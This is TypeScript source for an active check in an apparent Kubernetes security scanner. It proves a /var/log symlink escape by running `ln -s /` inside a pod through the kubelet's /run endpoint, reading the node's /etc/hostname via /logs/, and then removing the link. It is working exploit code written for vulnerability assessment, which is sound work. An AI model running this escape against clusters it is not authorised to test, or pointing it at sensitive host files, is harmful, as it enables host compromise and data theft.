import { posix } from 'node:path';
import type { Pod } from 'kubernetes-types/core/v1.js';
import { refusal } from '../../active/send.js';
import { excerpt } from '../../active/toolkit.js';
import { defineHunter } from '../../core/hunter.js';
import {
  containerName,
  type KubeletContainer,
  kubeletPods,
  kubeletTarget,
  perKubelet,
  runningContainers,
  runUrl,
} from './active-pods.js';
import { normalizedPath, writableVarLogMounts } from './pod-list.js';

/** The host file read through the link: harmless, and different on every node. */
const PROOF_FILE = 'etc/hostname';

/** Where the escape's link goes: a running container with a writable mount that reaches the node's /var/log. */
export interface VarLogEscape {
  at: KubeletContainer;
  /** The host path the container mounts: /var/log, a directory below it, or /var or / above it. */
  hostPath: string;
  /** Where the container mounts it. */
  mountPath: string;
  /** The directory inside the container that is the node's /var/log or a directory under it. */
  linkDir: string;
  /** That directory as the kubelet's /logs/ serves it ('' for /var/log itself). */
  logsDir: string;
}

const VAR_LOG = '/var/log';

/**
 * The first running container whose writable mount reaches the node's /var/log (the same mounts the passive
 * KF-KUBELET-014 reports), preferring a mount of /var/log itself, then one below it, then /var or /.
 */
export function varLogEscape(pods: readonly Pod[]): VarLogEscape | undefined {
  const found: [rank: number, escape: VarLogEscape][] = [];
  for (const at of runningContainers(pods)) {
    for (const m of writableVarLogMounts(at.spec).filter((w) => w.container === at.container)) {
      const hostPath = normalizedPath(m.hostPath);
      const mountPath = normalizedPath(m.mountPath);
      if (hostPath === VAR_LOG || hostPath.startsWith(`${VAR_LOG}/`)) {
        const logsDir = hostPath.slice(VAR_LOG.length + 1);
        found.push([logsDir ? 1 : 0, { at, hostPath, mountPath, linkDir: mountPath, logsDir }]);
      } else {
        const linkDir = posix.join(mountPath, posix.relative(hostPath, VAR_LOG));
        found.push([2, { at, hostPath, mountPath, linkDir, logsDir: '' }]);
      }
    }
  }
  return found.sort((a, b) => a[0] - b[0])[0]?.[1];
}

/**
 * The /var/log escape, as kube-hunter's ProveVarLogMount did it: in a pod that mounts the host's /var/log,
 * `ln -s / <mount>/kubeferret-<run id>` through the kubelet's /run makes the node's root readable under
 * the kubelet's /logs/; reading /logs/kubeferret-<run id>/etc/hostname proves it, then the link is removed.
 * The link is a journalled change. It follows the kubelet that runs commands for the caller (the
 * /var/log finding is about a pod, not a port, and may come from the read-only port that has no /run) and
 * looks for such a pod itself; the pod's KF-KUBELET-014 finding, when already reported, is the proof's parent.
 */
export const kubeletActiveVarLogEscape = defineHunter({
  id: 'kubelet-active-varlog-escape',
  title: 'Reads a host file through a pod that mounts /var/log (symlink escape)',
  mode: 'active',
  on: 'Finding',
  when: (f) => f.kb === 'KF-KUBELET-006' || f.kb === 'KF-KUBELET-001',
  subject: perKubelet,
  reports: ['KF-KUBELET-104'],
  changes:
    'creates the symlink /var/log/kubeferret-<run id> → / on the node through a pod mounting /var/log (or /var, /, a directory under /var/log), reads /etc/hostname through it, removes it',
  async hunt(finding, ctx) {
    const target = kubeletTarget(ctx, finding);
    if (!target) return;
    const found = varLogEscape((await kubeletPods(ctx, target)) ?? []);
    if (!found) {
      ctx.log('no running container mounts the host /var/log (or a directory above or below it) writable');
      return;
    }
    const { at, hostPath, mountPath, linkDir, logsDir } = found;
    const linkName = `kubeferret-${ctx.runId}`;
    const link = `${linkDir}/${linkName}`;
    const onNode = posix.join(VAR_LOG, logsDir, linkName);
    const where = containerName(at);
    const url = runUrl(target.base, at, `ln -s / ${link}`);
    const made = await ctx.change({
      action: `create symlink ${onNode} → / on the node (via ${where})`,
      target: url,
      identity: target.identity,
      apply: { method: 'POST', url },
      undo: {
        method: 'POST',
        url: runUrl(target.base, at, `rm -f ${link}`),
        description: `remove symlink ${onNode} on the node (via ${where})`,
        // 404 means the pod is gone, not the link: it is not undone then.
        goneStatuses: [],
      },
    });
    if (made.state !== 'applied') {
      if (made.response) ctx.log(`ln -s in ${where}: ${refusal(made.response)}`);
      return;
    }
    const path = `/logs/${logsDir ? `${logsDir}/` : ''}${linkName}/${PROOF_FILE}`;
    const read = await ctx.net.http({ url: `${target.base}${path}`, credential: target.secret });
    const removed = await made.undo();
    if (read.status !== 200) {
      ctx.log(`GET ${path}: ${refusal(read)}`);
      return;
    }
    const weakness = ctx.known(
      'Finding',
      (f) => f.kb === 'KF-KUBELET-014' && f.host === target.host && f.object === `pod ${at.namespace}/${at.pod}`,
    );
    ctx.report(
      {
        kb: 'KF-KUBELET-104',
        host: target.host,
        port: target.port,
        path,
        object: `pod ${at.namespace}/${at.pod}`,
        identity: target.identity.name,
        evidence: `linked ${onNode} → / through ${where} (mounts the host ${hostPath} at ${mountPath}) and read the node's /${PROOF_FILE}: "${excerpt(read.text(), 80)}"; link ${removed.state === 'undone' ? 'removed' : 'NOT removed'}`,
        proof: true,
      },
      [finding.id, ...weakness.map((f) => f.id)],
    );
  },
});
